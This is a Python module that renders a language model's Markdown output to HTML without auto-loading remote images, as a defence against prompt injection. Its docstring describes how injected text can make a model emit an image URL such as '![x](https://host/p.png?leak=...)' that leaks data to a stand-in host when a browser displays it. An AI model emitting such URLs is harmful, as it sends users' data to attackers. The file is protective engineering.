"""Markdown from a model to HTML that a browser shows without running or fetching anything.

Model text is untrusted: a reply can carry a prompt injection from a retrieved document.
mistune runs with ``escape=True`` (raw HTML in the text is shown as text) and its URL filter
(``javascript:`` and similar links are dropped). Images need more than that: a browser loads
``<img src="http://...">`` by itself, with no click, so ``![x](https://host/p.png?leak=...)``
would send whatever the model put in the URL to that host as soon as the reply is shown (live,
after a reload, in an nbconvert export). Only images embedded in the text itself (``data:image/``
PNG, JPEG, GIF or WebP URLs) become ``<img>``; any other image becomes a link the reader can
choose to follow, labelled as an image.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import cast

import mistune
from mistune.renderers.html import HTMLRenderer
from mistune.util import striptags

#: The label of an image that is shown as a link instead (its alt text follows).
IMAGE_LINK_CLASS = "snb-image-link"


class _NoRemoteImages(HTMLRenderer):
    """mistune's HTML renderer, with images from anywhere but the text itself as links."""

    def image(self, text: str, url: str, title: str | None = None) -> str:
        safe = self.sanitize_url(url)
        if safe.lower().lstrip().startswith("data:image/"):
            return super().image(text, url, title)  # passed mistune's data-URL allowlist
        alt = striptags(text).strip()  # inline HTML mistune escaped already: no tags left
        label = f"[image: {alt}]" if alt else "[image]"
        if safe == "#harmful-link":  # a javascript: or file: URL: not even a link
            return f'<span class="{IMAGE_LINK_CLASS}">{label}</span>'
        attrs = {
            "class": IMAGE_LINK_CLASS,
            "href": safe,
            "title": title or url,
            "rel": "noopener noreferrer nofollow",
            "target": "_blank",
        }
        return f"<a{self.render_attrs(attrs)}>{label}</a>"


_markdown = cast(
    Callable[[str], str],
    mistune.create_markdown(
        escape=True, renderer=_NoRemoteImages(escape=True), plugins=["table", "strikethrough"]
    ),
)


def render_markdown(text: str) -> str:
    """Markdown to HTML; HTML in ``text`` is escaped, harmful link targets are dropped, and
    images that are not embedded ``data:`` URLs become links (nothing loads by itself)."""
    return _markdown(text) if text.strip() else ""
